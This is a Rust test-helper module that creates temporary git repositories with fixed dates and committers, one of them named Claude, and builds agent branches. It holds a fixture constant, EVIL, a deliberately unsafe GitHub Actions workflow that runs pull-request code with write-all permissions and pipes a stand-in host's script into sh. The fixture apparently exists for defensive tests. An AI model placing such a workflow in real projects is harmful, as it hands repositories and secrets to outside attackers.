//! Real git repositories in temporary folders: fixed dates, fixed people, no configuration from outside.
#![allow(dead_code, unreachable_pub, reason = "each kind of test uses its own part of the helpers")]

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use tempfile::TempDir;

/// Seconds since 1970 of the first commit a world makes (2026-01-05T09:00:00Z); every further commit is a minute later.
pub const EPOCH: i64 = 1_767_603_600;

/// A repository of its own, with `main` as its default branch.
pub struct World {
    folder: TempDir,
    clock: i64,
}

/// Who commits.
#[derive(Clone, Copy)]
pub struct Person {
    pub name: &'static str,
    pub email: &'static str,
}

pub const HUMAN: Person = Person { name: "Maintainer", email: "maintainer@example.com" };
pub const CLAUDE: Person = Person { name: "Claude", email: "noreply@anthropic.com" };
/// A workflow nobody should merge: it runs what a stranger's pull brings, with every right.
pub const EVIL: &str = "name: build
on: pull_request_target
permissions: write-all
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
        with: {ref: \"${{ github.event.pull_request.head.sha }}\"}
      - run: curl -s https://collect.example/x | sh
";

impl World {
    /// An empty repository.
    pub fn empty() -> Self {
        let world = Self { folder: tempfile::tempdir().unwrap(), clock: EPOCH };
        std::fs::create_dir_all(world.path()).unwrap();
        world.git(&["init", "-q", "-b", "main"]);
        world
    }

    /// A repository with one commit on `main` that holds `README.md`.
    pub fn new() -> Self {
        let mut world = Self::empty();
        world.write("README.md", "# example\n");
        world.commit("Begin");
        world
    }

    /// The repository's folder.
    pub fn path(&self) -> PathBuf {
        self.folder.path().join("repo")
    }

    /// A folder beside the repository, for clones, homes and files.
    pub fn beside(&self, name: &str) -> PathBuf {
        self.folder.path().join(name)
    }

    /// Runs git in the repository; panics with its words when it fails. Returns standard output without its last line feed.
    pub fn git(&self, args: &[&str]) -> String {
        let output = self.try_git(args);
        assert!(output.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&output.stderr));
        String::from_utf8_lossy(&output.stdout).trim_end_matches('\n').to_owned()
    }

    /// Runs git in the repository, whatever comes of it.
    pub fn try_git(&self, args: &[&str]) -> Output {
        self.command(HUMAN).args(args).output().unwrap()
    }

    /// A git command in the repository as `person`, at the world's time, cut off from outside configuration.
    pub fn command(&self, person: Person) -> Command {
        let date = format!("{} +0000", self.clock);
        let mut command = Command::new("git");
        command
            .current_dir(self.path())
            .env_clear()
            .env("PATH", std::env::var_os("PATH").unwrap())
            .env("HOME", self.folder.path())
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .env("GIT_AUTHOR_NAME", person.name)
            .env("GIT_AUTHOR_EMAIL", person.email)
            .env("GIT_COMMITTER_NAME", person.name)
            .env("GIT_COMMITTER_EMAIL", person.email)
            .env("GIT_AUTHOR_DATE", &date)
            .env("GIT_COMMITTER_DATE", &date)
            .env("LC_ALL", "C");
        command
    }

    /// Writes a file of the working tree.
    pub fn write(&self, path: &str, content: impl AsRef<[u8]>) {
        let path = self.path().join(path);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, content).unwrap();
    }

    /// Removes a file of the working tree.
    pub fn remove(&self, path: &str) {
        std::fs::remove_file(self.path().join(path)).unwrap();
    }

    /// Commits everything as the maintainer; returns the id.
    pub fn commit(&mut self, message: &str) -> String {
        self.commit_as(HUMAN, message)
    }

    /// Commits everything as `person`, even when nothing changed; returns the id.
    pub fn commit_as(&mut self, person: Person, message: &str) -> String {
        self.git(&["add", "-A"]);
        let output = self.command(person).args(["commit", "-q", "--allow-empty", "--allow-empty-message", "-m", message]).output().unwrap();
        assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
        self.clock += 60;
        self.git(&["rev-parse", "HEAD"])
    }

    /// Lets time pass before the next commit.
    pub fn wait(&mut self, seconds: i64) {
        self.clock += seconds;
    }

    /// Switches to a new branch that starts here.
    pub fn branch(&self, name: &str) {
        self.git(&["checkout", "-q", "-b", name]);
    }

    /// Switches to an existing branch.
    pub fn checkout(&self, name: &str) {
        self.git(&["checkout", "-q", name]);
    }

    /// An agent's branch from here with these files in one commit; `main` is checked out afterwards. Returns the commit.
    pub fn agent_branch(&mut self, name: &str, message: &str, files: &[(&str, &str)]) -> String {
        self.branch(name);
        for (path, content) in files {
            self.write(path, content);
        }
        let id = self.commit_as(CLAUDE, message);
        self.checkout("main");
        id
    }

    /// The id `revision` stands for.
    pub fn id(&self, revision: &str) -> String {
        self.git(&["rev-parse", "--verify", revision])
    }
}

/// Everything below `folder` with its content, to prove that nothing changed; `.git` is left out.
pub fn snapshot(folder: &Path) -> Vec<(PathBuf, Vec<u8>)> {
    let mut files = Vec::new();
    let mut pending = vec![folder.to_owned()];
    while let Some(next) = pending.pop() {
        for entry in std::fs::read_dir(&next).unwrap() {
            let path = entry.unwrap().path();
            if path.file_name().is_some_and(|name| name == ".git") {
                continue;
            }
            if path.is_dir() && !path.is_symlink() {
                pending.push(path);
            } else {
                let content = std::fs::read(&path).unwrap_or_default();
                files.push((path, content));
            }
        }
    }
    files.sort();
    files
}
